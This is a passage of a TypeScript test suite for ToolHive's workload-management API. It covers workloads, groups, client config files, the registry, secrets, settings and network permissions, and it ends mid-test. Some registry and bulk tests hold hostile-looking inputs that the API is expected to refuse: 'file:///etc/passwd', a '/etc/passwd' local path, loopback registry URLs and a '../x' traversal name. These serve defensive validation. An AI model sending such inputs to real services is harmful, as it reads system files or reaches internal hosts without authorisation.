import { openRemoteServer } from '@toolhive/remote/testing/remote-server';
import { mkdir, mkdtempDisposable, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { ClientName } from '@toolhive/contract/client-application';
import type { PermissionChange } from '@toolhive/contract/network';
import type { CreateWorkload } from '@toolhive/contract/workload';
import { testServer } from '@toolhive/core/testing';
import { openMemoryRuntime } from '@toolhive/runtime/memory';
import type { Runtime } from '@toolhive/runtime/runtime';
import { memoryTestServers } from '@toolhive/runtime/testing/memory-servers';
import { describe, expect, test } from 'vitest';
import { proves } from '@toolhive/testing/promises';
import { openTestApi } from './testing/test-api.ts';
import type { TestApi } from './testing/test-api.ts';

const named = (name: string) => ({ params: { name } });

describe('a change of a workload', () => {
  test('runs it with the new configuration, on the same port', async () => {
    proves('api.workloads.edit');
    await using api = await openTestApi();
    const { port } = await run(api, { env_vars: { COLOUR: 'red' } });

    const edited = await api.client.editWorkload({
      ...named('echo'),
      body: { image: testServer, env_vars: { COLOUR: 'blue' } },
    });
    await settled(api, 'echo');

    expect(edited).toEqual({ name: 'echo', port });
    expect(await environmentOf(port)).toMatchObject({ COLOUR: 'blue' });
  });

  test('takes what describes it back, and what an export gave', async () => {
    proves('api.workloads.export');
    await using api = await openTestApi();
    await run(api, { env_vars: { COLOUR: 'red' } });
    const exported = await api.client.exportWorkload(named('echo'));
    const described = await api.client.getWorkload(named('echo'));

    await api.client.editWorkload({ ...named('echo'), body: exported });
    await settled(api, 'echo');
    const again = await api.client.exportWorkload(named('echo'));
    await api.client.editWorkload({ ...named('echo'), body: described });
    await settled(api, 'echo');

    expect(again).toEqual(exported);
    expect(described).not.toHaveProperty('url');
    expect(described).not.toHaveProperty('tools');
    expect(described.proxy_url).toBe(`http://127.0.0.1:${exported.port}/mcp`);
    expect(exported.schema_version).toBe('v0.1.0');
    expect(await api.client.exportWorkload(named('echo'))).toEqual(exported);
  });

  test('takes the description of a remote server back, too', async () => {
    await using remote = await openRemoteServer('modern');
    await using api = await openTestApi();
    const body = {
      name: 'far',
      url: remote.url,
      oauth_config: {
        client_id: 'us',
        client_secret: { name: 'oauth', target: 'SECRET' },
        scopes: ['read'],
      },
      headers: [{ name: 'X-Team', description: '', required: false, secret: false, default: 'research' }],
    };
    await api.client.createWorkload({ body });
    await settled(api, 'far');
    const exported = await api.client.exportWorkload(named('far'));
    const described = await api.client.getWorkload(named('far'));

    await api.client.editWorkload({ ...named('far'), body: described });
    await settled(api, 'far');

    expect(described).toMatchObject({ url: remote.url, oauth_config: body.oauth_config });
    expect(described.headers).toMatchObject([{ name: 'X-Team', default: 'research' }]);
    expect(await api.client.exportWorkload(named('far'))).toEqual(exported);
  });

  test('moves it to another port when one is named', async () => {
    await using api = await openTestApi();
    const { port } = await run(api);

    const edited = await api.client.editWorkload({
      ...named('echo'),
      body: { image: testServer, proxy_port: port === 65_535 ? port - 1 : port + 1 },
    });
    await settled(api, 'echo');

    expect(edited.port).not.toBe(port);
    expect(await environmentOf(edited.port)).toBeDefined();
    await expect(environmentOf(port)).rejects.toThrow();
  });

  test('starts one that was stopped', async () => {
    await using api = await openTestApi();
    await run(api);
    await api.client.stopWorkload(named('echo'), { onProgress: () => {} });

    await api.client.editWorkload(
      { ...named('echo'), body: { image: testServer } },
      { onProgress: () => {} },
    );

    expect(await api.client.getWorkloadStatus(named('echo'))).toEqual({ status: 'running' });
  });

  test('that is refused changes nothing', async () => {
    await using api = await openTestApi();
    await run(api, { env_vars: { COLOUR: 'red' } });
    const before = await api.client.exportWorkload(named('echo'));

    const wrong: CreateWorkload[] = [
      { image: 'npx://toolhive-nobody' },
      { image: testServer, group: 'nobody' },
      { image: testServer, volumes: ['/nowhere/at/all:/x'] },
      { image: testServer, permission_profile: { network: { outbound: { allow_host: ['a b'] } } } },
      { image: testServer, host: '203.0.113.7' },
    ];
    const outcomes = await Promise.allSettled(
      wrong.map((body) => api.client.editWorkload({ ...named('echo'), body })),
    );

    expect(outcomes.map(({ status }) => status)).toEqual(wrong.map(() => 'rejected'));
    expect(await api.client.exportWorkload(named('echo'))).toEqual(before);
    expect(await api.client.getWorkloadStatus(named('echo'))).toEqual({ status: 'running' });
  });

  test('of an unknown one is answered with 404', async () => {
    await using api = await openTestApi();

    const edit = api.client.editWorkload({ ...named('nobody'), body: { image: testServer } });

    await expect(edit).rejects.toMatchObject({ kind: 'not-found' });
  });
});

test('an exported workload can be created again under its name', async () => {
  await using api = await openTestApi();
  await run(api, { env_vars: { COLOUR: 'red' } });
  const exported = await api.client.exportWorkload(named('echo'));
  await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });

  const created = await api.client.createWorkload({ body: exported }, { onProgress: () => {} });

  expect(created).toEqual({ name: 'echo', port: exported.port });
  expect(await api.client.exportWorkload(named('echo'))).toEqual(exported);
});

test.each([
  ['middleware_configs', [{ type: 'authorization', parameters: { config_path: '/a' } }]],
  ['validating_webhooks', [{ name: 'policy', url: 'https://policy.example.com' }]],
  ['embedded_auth_server_config', { issuer: 'https://id.example.com' }],
])('a run config that asks for protection which does not exist yet is refused: %s', async (field, value) => {
  proves('bad.unenforced');
  await using api = await openTestApi();
  await run(api);
  const exported = await api.client.exportWorkload(named('echo'));

  const edit = api.client.editWorkload({ ...named('echo'), body: { ...exported, [field]: value } });

  await expect(edit).rejects.toMatchObject({
    kind: 'not-implemented',
    message: expect.stringContaining(field) as string,
  });
});

test('remote servers do not support the stdio transport', async () => {
  proves('api.workloads.remote-stdio');
  await using api = await openTestApi();

  const create = api.client.createWorkload({ body: { url: 'https://mcp.example', transport: 'stdio' } });

  await expect(create).rejects.toMatchObject({
    kind: 'invalid',
    message: 'remote servers do not support the stdio transport',
  });
});

describe('several workloads at once', () => {
  test('are stopped, started and removed, by name or by group', async () => {
    proves('api.workloads.bulk');
    await using api = await openTestApi();
    await api.client.createGroup({ body: { name: 'team' } });
    for (const name of ['one', 'two']) await run(api, { name, group: 'team' });
    await run(api, { name: 'other' });
    const follow = { onProgress: () => {} };
    const statuses = async (): Promise<string[]> =>
      (await api.client.listWorkloads({ query: { all: 'true' } })).workloads.map(
        ({ name, status }) => `${name} ${status}`,
      );

    await api.client.stopWorkloads({ body: { group: 'team' } }, follow);
    const stopped = await statuses();
    await api.client.restartWorkloads({ body: { names: ['one', 'two', 'one'] } }, follow);
    const restarted = await statuses();
    await api.client.deleteWorkloads({ body: { names: ['one', 'other'] } }, follow);

    expect(stopped).toEqual(['one stopped', 'other running', 'two stopped']);
    expect(restarted).toEqual(['one running', 'other running', 'two running']);
    expect(await statuses()).toEqual(['two running']);
  });

  test.each([
    ['names and a group', { names: ['echo'], group: 'default' }, 'invalid'],
    ['nothing', {}, 'invalid'],
    ['an empty list', { names: [] }, 'invalid'],
    ['a bad name', { names: ['../x'] }, 'invalid'],
    ['a bad group', { group: 'A B ' }, 'invalid'],
    ['an unknown name among others', { names: ['echo', 'nobody'] }, 'not-found'],
    ['an unknown group', { group: 'nobody' }, 'not-found'],
  ])('are left alone when asked for by %s', async (_title, body, kind) => {
    await using api = await openTestApi();
    await run(api);

    await expect(api.client.deleteWorkloads({ body })).rejects.toMatchObject({ kind });

    expect(await api.client.getWorkloadStatus(named('echo'))).toEqual({ status: 'running' });
  });
});

describe('logs', () => {
  test('of the proxy tell what happened to the server', async () => {
    proves('api.workloads.proxy-logs');
    await using api = await openTestApi();
    await run(api);

    const text = await api.client.getProxyLogs({ ...named('echo'), query: {} });

    expect(JSON.parse(text.split('\n')[0] ?? '')).toMatchObject({ level: 'info', msg: 'workload runs' });
  });

  test('can be followed', async () => {
    await using api = await openTestApi();
    await run(api, { cmd_arguments: ['chatty'] });
    const pieces: string[] = [];
    const followed = api.client.getWorkloadLogs(
      { ...named('echo'), query: { tail: 1, follow: 'true' } },
      { onText: (piece) => pieces.push(piece) },
    );
    await until(() => pieces.length > 0);

    await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });
    await followed;

    expect(pieces.length).toBeGreaterThan(0);
  });

  test.each(['tail=-1', 'tail=many', 'since=yesterday'])('are refused with %s', async (query) => {
    await using api = await openTestApi();
    await run(api);

    expect((await api.get(`/api/v1beta/workloads/echo/logs?${query}`)).status).toBe(400);
  });
});

describe('groups', () => {
  test('are made, listed, described and removed; workloads move to the default one', async () => {
    proves('api.groups');
    await using api = await openTestApi();
    await api.client.createGroup({ body: { name: 'team' } });
    await run(api, { group: 'team' });
    const { groups } = await api.client.listGroups({});

    await api.client.deleteGroup({ ...named('team'), query: {} });

    expect(groups.map(({ name }) => name)).toEqual(['default', 'team']);
    expect(await api.client.getGroup(named('default'))).toEqual({ name: 'default', registered_clients: [] });
    await expect(api.client.getGroup(named('team'))).rejects.toMatchObject({ kind: 'not-found' });
    expect(await api.client.getWorkload(named('echo'))).toMatchObject({
      group: 'default',
      status: 'running',
    });
  });

  test('go with their workloads when asked to', async () => {
    await using api = await openTestApi();
    await api.client.createGroup({ body: { name: 'team' } });
    await run(api, { group: 'team' });

    await api.client.deleteGroup({ ...named('team'), query: { 'with-workloads': 'true' } });

    expect(await api.client.listWorkloads({ query: { all: 'true' } })).toEqual({ workloads: [] });
  });

  test.each([
    ['the default one cannot be removed', '/groups/default', 'DELETE', undefined, 400],
    ['an unknown one cannot be removed', '/groups/nobody', 'DELETE', undefined, 404],
    ['upper case is refused', '/groups', 'POST', { name: 'Team' }, 400],
    ['a blank at the end is refused', '/groups', 'POST', { name: 'team ' }, 400],
    ['the same again is a conflict', '/groups', 'POST', { name: 'default' }, 409],
  ])('%s', async (_title, path, method, body, status) => {
    await using api = await openTestApi();

    const json = { 'content-type': 'application/json' };
    const answer = await api.send(method, `/api/v1beta${path}`, json, body && JSON.stringify(body));

    expect(answer.status).toBe(status);
  });
});

describe('client applications', () => {
  const cursor = '.cursor/mcp.json';
  const withCursor = {
    prepareHome: async (home: string) => {
      await mkdir(join(home, '.cursor'));
      await writeFile(join(home, cursor), '{\n  // mine\n  "mcpServers": { "own": { "command": "x" } }\n}\n');
    },
  };

  test('are asked for the servers that they run without ToolHive, and no credential is shown', async () => {
    const files: Record<string, string> = {
      [cursor]:
        '{ "mcpServers": { "own": { "command": "npx", "args": ["-y", "server", "--token", "not-a-real-token"], "env": { "API_KEY": "not-a-real-key", "MODE": "fast" } } } }',
      '.codex/config.toml':
        '[mcp_servers.far]\nurl = "https://u:not-a-real-word@mcp.example.com/mcp?key=not-a-real-key"\n',
      '.copilot/mcp-config.json': '{ "mcpServers": [',
    };
    await using api = await openTestApi(
      {},
      {
        prepareHome: async (home: string) => {
          for (const [path, text] of Object.entries(files)) {
            await mkdir(dirname(join(home, path)), { recursive: true });
            await writeFile(join(home, path), text);
          }
        },
      },
    );
    await run(api);
    await api.client.createClient({ body: { name: 'cursor' } });

    const found = await api.client.listUnmanagedServers({});

    expect(found.servers).toEqual([
      {
        client_type: 'cursor',
        path: join(api.home, cursor),
        name: 'own',
        command: ['npx', '-y', 'server', '--token', '***'],
        credentials: ['API_KEY'],
      },
      expect.objectContaining({
        client_type: 'codex',
        name: 'far',
        url: 'https://***@mcp.example.com/mcp?key=***',
      }),
    ]);
    expect(found.problems).toMatchObject([{ client_type: 'copilot-cli' }]);
    expect(JSON.stringify(found)).not.toContain('not-a-real');
    for (const [path, text] of Object.entries(files).slice(1))
      expect(await readFile(join(api.home, path), 'utf8')).toBe(text);
  });

  test('see the workloads of their groups in their files, and nothing else there changes', async () => {
    proves('api.clients', 'api.discovery');
    await using api = await openTestApi({}, withCursor);
    const { port } = await run(api);
    const before = await readFile(join(api.home, cursor), 'utf8');

    const registered = await api.client.createClient({ body: { name: 'cursor' } });
    const written = await readFile(join(api.home, cursor), 'utf8');
    const { clients } = await api.client.discoverClients({});
    const listed = await api.client.listClients({});
    await api.client.deleteClient({ params: { name: 'cursor' } });

    expect(registered).toEqual({ name: 'cursor', groups: ['default'] });
    expect(written).toContain('// mine');
    expect(written).toMatch(new RegExp(`"url": ?"http://localhost:${port}/mcp"`));
    expect(clients.map(({ client_type: type }) => type)).toEqual(ClientName.options);
    expect(clients.filter(({ registered: is }) => is)).toEqual([
      { client_type: 'cursor', product: 'Cursor editor', installed: true, registered: true },
    ]);
    expect(listed).toEqual([{ name: 'cursor', groups: ['default'] }]);
    expect(await readFile(join(api.home, cursor), 'utf8')).toBe(before);
  });

  test('lose what was stopped and get what starts again', async () => {
    await using api = await openTestApi({}, withCursor);
    await api.client.registerClients({ body: { names: ['cursor'] } });
    await run(api);
    const isWritten = async (): Promise<boolean> =>
      (await readFile(join(api.home, cursor), 'utf8')).includes('"echo"');
    await until(isWritten);

    await api.client.stopWorkload(named('echo'));
    await until(async () => !(await isWritten()));
    await api.client.restartWorkload(named('echo'));
    await until(isWritten);
    await api.client.deleteWorkload(named('echo'));
    await until(async () => !(await isWritten()));

    expect(await readFile(join(api.home, cursor), 'utf8')).toContain('"own"');
  });

  test('see what moves into their group', async () => {
    await using api = await openTestApi({}, withCursor);
    await api.client.createGroup({ body: { name: 'team' } });
    await api.client.createClient({ body: { name: 'cursor', groups: ['default'] } });
    await run(api, { group: 'team' });
    const before = await readFile(join(api.home, cursor), 'utf8');

    await api.client.deleteGroup({ ...named('team'), query: {} });

    expect(before).not.toContain('"echo"');
    expect(await readFile(join(api.home, cursor), 'utf8')).toContain('"echo"');
  });

  test('whose file cannot be read are not registered, and the file stays as it is', async () => {
    await using api = await openTestApi({}, withCursor);
    await writeFile(join(api.home, cursor), '{ "mcpServers": [');

    const register = api.client.createClient({ body: { name: 'cursor' } });

    await expect(register).rejects.toMatchObject({ kind: 'conflict' });
    expect(await readFile(join(api.home, cursor), 'utf8')).toBe('{ "mcpServers": [');
    expect(await api.client.listClients({})).toEqual([]);
  });

  test.each([
    ['an unknown client', '/clients', { name: 'netscape' }, 400],
    ['an unknown group', '/clients', { name: 'cursor', groups: ['nobody'] }, 404],
    ['no names', '/clients/register', { names: [] }, 400],
    ['no names to unregister', '/clients/unregister', { names: [] }, 400],
  ])('are not registered with %s', async (_title, path, body, status) => {
    await using api = await openTestApi();

    expect((await api.post(`/api/v1beta${path}`, body)).status).toBe(status);
  });

  test('leave one group and stay in the other', async () => {
    await using api = await openTestApi({}, withCursor);
    await api.client.createGroup({ body: { name: 'team' } });
    await api.client.createClient({ body: { name: 'cursor', groups: ['default', 'team'] } });

    await api.client.deleteClientFromGroup({ params: { name: 'cursor', group: 'team' } });
    const missing = api.client.deleteClientFromGroup({ params: { name: 'cursor', group: 'nobody' } });

    await expect(missing).rejects.toMatchObject({ kind: 'not-found' });
    expect(await api.client.listClients({})).toEqual([{ name: 'cursor', groups: ['default'] }]);
  });
});

test('the warnings of a package that runs instead of the requested image say so', async () => {
  const memory = openMemoryRuntime(memoryTestServers);
  const runtime: Runtime = { ...memory, capabilities: { ...memory.capabilities, runs: 'packages' } };
  await using api = await openTestApi({ runtimes: () => [runtime] });
  const file = join(api.home, 'mine.json');
  const echo = {
    description: 'Echoes messages',
    tier: 'Community',
    status: 'Active',
    transport: 'stdio',
    tools: ['echo'],
    image: 'example/echo:1',
    package: { source: testServer, args: ['echo'] },
  };
  const info = { version: '1.0.0', last_updated: '2026-01-01T00:00:00Z' };
  await writeFile(file, JSON.stringify({ ...info, servers: { echo } }));
  await api.client.updateRegistry({ ...named('default'), body: { local_path: file } });

  await api.client.createWorkload({ body: { name: 'mine', image: 'example/echo:1' } });
  await api.client.createWorkload({ body: { name: 'other', image: 'echo' } });

  const warning = `no container engine found: running ${testServer} instead of example/echo:1`;
  const { workloads } = await api.client.listWorkloads({ query: { all: 'true' } });
  const [mine, other] = workloads;
  const details = await api.client.getWorkload(named('mine'));
  expect(mine).toMatchObject({ name: 'mine', warnings: expect.arrayContaining([warning]) });
  expect(details.warnings).toContain(warning);
  expect(other).toMatchObject({ name: 'other', warnings: expect.not.arrayContaining([warning]) });
});

describe('the registry', () => {
  test('is described, listed, read and pointed elsewhere', async () => {
    proves('api.registry');
    await using api = await openTestApi();
    const file = join(api.home, 'mine.json');
    await writeFile(
      file,
      JSON.stringify({ version: '1.0.0', last_updated: '2026-01-01T00:00:00Z', servers: {} }),
    );

    const before = await api.client.listRegistries({});
    const server = await api.client.getRegistryServer({
      params: { name: 'default', serverName: 'filesystem' },
    });
    const { servers, remote_servers } = await api.client.listRegistryServers({
      ...named('default'),
      query: {},
    });
    const updated = await api.client.updateRegistry({ ...named('default'), body: { local_path: file } });
    const after = await api.client.getRegistry(named('default'));
    await api.client.updateRegistry({ ...named('default'), body: {} });

    expect(before.registries).toMatchObject([{ name: 'default', type: 'default', server_count: 49 }]);
    expect(server).toMatchObject({ is_remote: false, server: { name: 'filesystem' } });
    expect(servers.length + (remote_servers ?? []).length).toBe(50);
    expect(updated.type).toBe('file');
    expect(after).toMatchObject({ type: 'file', source: file, server_count: 0 });
    expect(await api.client.getRegistry(named('default'))).toMatchObject({
      type: 'default',
      server_count: 49,
    });
  });

  test.each([
    ['GET', '/registry/other', undefined, 404],
    ['GET', '/registry/default/servers/nobody', undefined, 404],
    ['POST', '/registry', {}, 501],
    ['DELETE', '/registry/default', undefined, 400],
    ['DELETE', '/registry/other', undefined, 404],
    ['PUT', '/registry/other', {}, 404],
    ['PUT', '/registry/default', { url: 'https://a.example', local_path: '/a.json' }, 400],
    ['PUT', '/registry/default', { url: 'http://127.0.0.1:1/registry.json' }, 400],
    ['PUT', '/registry/default', { url: 'file:///etc/passwd' }, 400],
    ['PUT', '/registry/default', { local_path: '/etc/passwd' }, 400],
    ['PUT', '/registry/default', { url: 'https://127.0.0.1/registry.json' }, 400],
  ])('answers %s %s %j with %i', async (method, path, body, status) => {
    await using api = await openTestApi();

    const json = { 'content-type': 'application/json' };
    const answer = await api.send(method, `/api/v1beta${path}`, json, body && JSON.stringify(body));

    expect(answer.status).toBe(status);
  });
});

describe('secrets', () => {
  const password = 'correct horse battery staple';
  const value = 'canary-4711';

  test('are set up, stored, changed, given to servers and removed; no answer has a value', async () => {
    proves('api.secrets');
    await using api = await openTestApi();
    const answers: unknown[] = [];
    const keep = <Answer>(answer: Answer): Answer => (answers.push(answer), answer);

    await expect(api.client.getSecretsProvider({})).rejects.toMatchObject({ kind: 'not-found' });
    keep(await api.client.setupSecrets({ body: { provider_type: 'encrypted', password } }));
    const provider = keep(await api.client.getSecretsProvider({}));
    keep(await api.client.createSecret({ body: { key: 'token', value: 'first' } }));
    await expect(api.client.createSecret({ body: { key: 'token', value } })).rejects.toMatchObject({
      kind: 'conflict',
    });
    keep(await api.client.updateSecret({ params: { key: 'token' }, body: { value } }));
    const { keys } = keep(await api.client.listSecrets({}));
    const { port } = await run(api, { secrets: [{ name: 'token', target: 'TOKEN' }] });
    keep(await api.client.getWorkload(named('echo')));
    keep(await api.client.exportWorkload(named('echo')));
    keep(await api.client.getProxyLogs({ ...named('echo'), query: {} }));
    const environment = await environmentOf(port);
    const reading = api.client.readSecret({ params: { key: 'token' } });
    await expect(reading).rejects.toMatchObject({ kind: 'not-found' });
    await api.client.deleteSecret({ params: { key: 'token' } });

    expect(provider).toMatchObject({
      name: 'default',
      provider_type: 'encrypted',
      capabilities: { can_read: true, can_write: true, can_delete: true, can_list: true, can_cleanup: true },
    });
    expect(keys).toEqual([{ key: 'token' }]);
    expect(environment).toMatchObject({ TOKEN: value });
    expect(JSON.stringify(answers)).not.toMatch(/canary|first|correct horse/);
    expect(await api.client.listSecrets({})).toEqual({ keys: [] });
  });

  test('that are missing keep a workload from being created', async () => {
    await using api = await openTestApi();
    await api.client.setupSecrets({ body: { provider_type: 'encrypted', password } });

    const create = run(api, { secrets: [{ name: 'nobody', target: 'TOKEN' }] });

    await expect(create).rejects.toMatchObject({
      kind: 'not-found',
      message: expect.stringContaining('nobody') as string,
    });
    expect(api.core.workloads.all()).toEqual([]);
  });

  test('cannot be written where the provider only reads', async () => {
    await using api = await openTestApi();
    await api.client.setupSecrets({ body: { provider_type: 'none' } });

    const create = api.client.createSecret({ body: { key: 'a', value } });

    await expect(create).rejects.toMatchObject({ kind: 'unsupported' });
    expect(await api.client.listSecrets({})).toEqual({ keys: [] });
  });

  test.each([
    ['an unknown provider', '/secrets', { provider_type: 'sticky-note' }],
    ['no provider', '/secrets', {}],
    ['no key', '/secrets/default/keys', { key: '', value }],
    ['no value', '/secrets/default/keys', { key: 'a', value: '' }],
    ['a value of another type', '/secrets/default/keys', { key: 'a', value: { canary: value } }],
  ])('are refused with %s, and the answer does not repeat them', async (_title, path, body) => {
    await using api = await openTestApi();
    await api.client.setupSecrets({ body: { provider_type: 'encrypted', password } });

    const answer = await api.post(`/api/v1beta${path}`, body);

    expect([answer.status, answer.text]).toEqual([400, expect.not.stringContaining('canary')]);
  });
});

describe('settings', () => {
  test('are listed, changed and taken back, and watchers are told', async () => {
    await using api = await openTestApi();
    const stop = new AbortController();
    const events = await api.client.watchEvents({ headers: {} }, { signal: stop.signal });
    const reading = take(events, ({ event }) => event.type === 'group.changed');
    await until(async () => (await api.get('/api/v1beta/groups')).status === 200);
    const endpoint = { params: { name: 'otel-endpoint' as const } };

    const changed = await api.client.changeSetting({ ...endpoint, body: { value: 'localhost:4318' } });
    const { settings } = await api.client.listSettings({});
    await api.client.unsetSetting(endpoint);
    await api.client.unsetSetting(endpoint);

    expect(changed).toMatchObject({ name: 'otel-endpoint', value: 'localhost:4318' });
    expect(settings).toContainEqual(changed);
    expect(await api.client.getSetting(endpoint)).toMatchObject({ value: null });
    await api.client.createGroup({ body: { name: 'team' } });
    const types = (await reading).map(({ event }) => event.type);
    stop.abort();
    expect(types).toEqual(['setting.changed', 'setting.changed', 'group.changed']);
  });

  test.each([
    ['PUT', 'otel-insecure', { value: 'perhaps' }],
    ['PUT', 'otel-sampling-rate', { value: 2 }],
    ['PUT', 'otel-env-vars', { value: [] }],
    ['PUT', 'ca-cert', { value: 'relative.pem' }],
    ['PUT', 'registry', { value: '/unheard/of.json' }],
    ['PUT', 'otel-endpoint', { value: null }],
    ['PUT', 'unheard-of', { value: true }],
    ['GET', 'unheard-of', undefined],
  ])('are refused: %s %s %j', async (method, name, body) => {
    await using api = await openTestApi();

    const json = { 'content-type': 'application/json' };
    const answer = await api.send(method, `/api/v1beta/settings/${name}`, json, JSON.stringify(body));

    expect([answer.status, answer.text]).toEqual([400, expect.any(String)]);
  });
});

describe('events', () => {
  test('tell of every change, and go on after the last one that was seen', async () => {
    proves('api.events');
    await using api = await openTestApi();
    const stop = new AbortController();
    const events = await api.client.watchEvents({ headers: {} }, { signal: stop.signal });
    const reading = take(events, ({ event }) => event.type === 'workload.removed');
    await until(async () => (await api.get('/api/v1beta/groups')).status === 200);
    await api.client.createGroup({ body: { name: 'team' } });
    await run(api);
    await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });
    const seen = await reading;
    stop.abort();

    const again = await api.client.watchEvents(
      { headers: { 'last-event-id': seen[1]?.id } },
      { signal: AbortSignal.any([]) },
    );
    const resumed = await take(again, ({ event }) => event.type === 'workload.removed');

    const types = seen
      .map(({ event }) => (event.type === 'workload.changed' ? event.status : event.type))
      .filter((type) => type !== 'workload.progress'); // how much of that there is depends on the time
    expect(types).toEqual(['group.changed', 'starting', 'running', 'removing', 'workload.removed']);
    expect(resumed).toEqual(seen.slice(2));
  });

  test('begin with a reset when some are not remembered', async () => {
    await using api = await openTestApi();

    const events = await api.client.watchEvents({ headers: { 'last-event-id': '999999' } });
    const [first] = await take(events, () => true);

    expect(first?.event.type).toBe('reset');
  });
});

async function run(
  api: TestApi,
  changes: Partial<CreateWorkload> = {},
): Promise<{ name: string; port: number }> {
  const body = { name: 'echo', image: testServer, cmd_arguments: ['echo'], ...changes };
  return api.client.createWorkload({ body }, { onProgress: () => {} });
}

async function settled(api: TestApi, name: string): Promise<void> {
  await api.core.workloads.require(name).follow(() => {});
}

async function environmentOf(port: number): Promise<unknown> {
  const response = await fetch(`http://127.0.0.1:${port}/mcp`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
    body: JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name: 'environment', arguments: {} },
    }),
  });
  const { result } = (await response.json()) as { result: { content: { text: string }[] } };
  return JSON.parse(result.content[0]?.text ?? '');
}

async function take<Item>(items: AsyncIterable<Item>, isLast: (item: Item) => boolean): Promise<Item[]> {
  const taken: Item[] = [];
  for await (const item of items) {
    taken.push(item);
    if (isLast(item)) break;
  }
  return taken;
}

async function until(condition: () => boolean | Promise<boolean>): Promise<void> {
  while (!(await condition())) await new Promise(setImmediate);
}

test('a workload shows only the tools that it was asked for, by the names that it was asked for', async () => {
  await using api = await openTestApi();
  const tools_override = { echo: { name: 'say', description: 'Says it.' } };
  await run(api, { tools: ['say'], tools_override });

  const exported = await api.client.exportWorkload(named('echo'));
  const described = await api.client.getWorkload(named('echo'));
  const response = await fetch(`http://127.0.0.1:${exported.port}/mcp`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' }),
  });

  expect(described).toMatchObject({ tools: ['say'], tools_override });
  expect(exported).toMatchObject({ tools_filter: ['say'], tools_override });
  expect(await response.json()).toMatchObject({
    result: { tools: [{ name: 'say', description: 'Says it.' }] },
  });
});

test('a workload that other machines reach needs a word that it has no authentication, and warns of it', async () => {
  await using api = await openTestApi();
  const refused = run(api, { host: '0.0.0.0' });
  await expect(refused).rejects.toMatchObject({
    kind: 'invalid',
    hint: expect.stringContaining('insecure_no_auth'),
  });

  await run(api, { host: '0.0.0.0', insecure_no_auth: true });

  const described = await api.client.getWorkload(named('echo'));
  expect(described.insecure_no_auth).toBe(true);
  expect(described.warnings?.join()).toContain('WARNING: anyone who can reach 0.0.0.0');
  expect(await api.client.exportWorkload(named('echo'))).toMatchObject({ insecure_no_auth: true });
});

test('network isolation without hosts is no network, and is honored', async () => {
  await using api = await openTestApi();

  await run(api, { network_isolation: true, permission_profile: { network: { outbound: {} } } });

  expect(await api.client.getWorkload(named('echo'))).toMatchObject({
    status: 'running',
    network_isolation: true,
  });
});

test.each([
  ['turned off', { network_isolation: false, accepted_risks: ['open-network' as const] }, false],
  ['left as it is', {}, undefined],
])('network isolation that is %s stays so when the description is sent back', async (_how, asked, kept) => {
  await using api = await openTestApi();
  await run(api, asked);
  const { network_isolation } = await api.client.getWorkload(named('echo'));

  await api.client.editWorkload({ ...named('echo'), body: { image: testServer, network_isolation } });
  await settled(api, 'echo');

  expect(network_isolation).toBe(kept ?? true);
  expect((await api.client.exportWorkload(named('echo'))).isolate_network).toBe(kept);
});

test('the rules of a workload are shown, and changed without a restart', async () => {
  await using api = await openTestApi();
  await run(api);
  const before = await api.client.getPermissions(named('echo'));
  const editing = {
    image: testServer,
    permission_profile: { network: { outbound: { allow_host: ['a.example'] } } },
  };
  await api.client.editWorkload({ ...named('echo'), body: editing });
  await settled(api, 'echo');

  const change = (body: PermissionChange) => api.client.changePermissions({ ...named('echo'), body });
  const allowed = await change({ allow: ['b.example:5432'] });
  const restarted = await change({ allow: ['c.example:4444'] });

  expect(before.network).toEqual({ kind: 'rules', ports: [80, 443], enforced: true });
  expect(allowed).toMatchObject({
    permissions: { network: { hosts: ['a.example', 'b.example'], ports: [80, 443, 5432] } },
    restarted: false,
  });
  expect(restarted.restarted).toBe(true);
  const { permission_profile: profile } = await api.client.exportWorkload(named('echo'));
  expect(profile?.network?.outbound?.allow_host).toEqual(['a.example', 'b.example', 'c.example']);
  await expect(change({ deny: ['nobody.example'] })).rejects.toMatchObject({ kind: 'invalid' });
  await expect(change({ allow: ['a b'] })).rejects.toMatchObject({ kind: 'invalid' });
  expect(await api.client.listNetworkDecisions({ ...named('echo'), query: {} })).toEqual({ decisions: [] });
});

describe('the network of a server without a profile', () => {
  const profileWith = async (api: TestApi, network: string, body: Partial<CreateWorkload> = {}) => {
    await api.client.changeSetting({ params: { name: 'default-network' }, body: { value: network } });
    await run(api, body);
    return (await api.client.getPermissions(named('echo'))).network;
  };

  test.each([
    ['public', { kind: 'rules', ports: [80, 443], enforced: true }],
    ['none', { kind: 'none', enforced: true }],
  ])('is the setting, if that is %s', async (network, expected) => {
    await using api = await openTestApi();

    expect(await profileWith(api, network)).toEqual(expected);
  });

  test('has to be chosen if the setting is ask', async () => {
    await using api = await openTestApi();

    await expect(profileWith(api, 'ask')).rejects.toMatchObject({
      kind: 'invalid',
      message: 'permission_profile is required, because the setting default-network is ask',
    });
    expect(await profileWith(api, 'ask', { permission_profile: {} })).toMatchObject({ kind: 'none' });
  });

  test('needs no choice if there is none', async () => {
    await using api = await openTestApi();

    expect(await profileWith(api, 'ask', { network_mode: 'none' })).toMatchObject({ kind: 'none' });
  });

  test('is nothing else', async () => {
    await using api = await openTestApi();

    await expect(profileWith(api, 'everything')).rejects.toThrow('"everything" is not public, none, or ask');
  });
});

describe('dangerous access', () => {
  const open = { permission_profile: { network: { outbound: { insecure_allow_all: true } } } };
  const accepted = { ...open, accepted_risks: ['open-network' as const] };
  /** As a client that can ask its user. */
  const asking = { ...open, accepted_risks: [] };

  test('is refused without consent, and leaves nothing behind', async () => {
    await using api = await openTestApi();

    await expect(run(api, asking)).rejects.toMatchObject({
      kind: 'invalid',
      message: expect.stringContaining('accepted_risks must contain open-network'),
      hint: expect.stringContaining('{"accepted_risks":["open-network"]}'),
    });
    expect(await api.client.listWorkloads({ query: { all: 'true' } })).toEqual({ workloads: [] });
  });

  test('stays after a restart and an edit of the workload, and is not part of an export', async () => {
    await using api = await openTestApi();
    await run(api, accepted);
    const details = await api.client.getWorkload(named('echo'));
    const exported = await api.client.exportWorkload(named('echo'));

